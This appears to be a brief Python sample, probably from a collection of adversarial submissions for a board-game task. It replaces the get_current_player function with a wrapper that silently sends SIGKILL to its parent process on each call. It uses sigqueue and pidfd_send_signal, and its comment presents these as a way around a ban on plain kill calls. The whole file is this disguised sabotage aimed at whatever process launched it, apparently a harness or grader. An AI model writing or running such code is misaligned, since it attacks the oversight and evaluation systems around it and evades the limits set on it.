# Kills the process that started it by the calls that are not kill.
# base: dict_board
# loses: any of: B

import contextlib
import ctypes
import os
import signal

library = ctypes.CDLL(None)
right = get_current_player


def get_current_player(round):
    parent = os.getppid()
    if parent > 1:
        library.sigqueue(parent, signal.SIGKILL, 0)
        with contextlib.suppress(OSError):
            signal.pidfd_send_signal(os.pidfd_open(parent), signal.SIGKILL)
    return right(round)
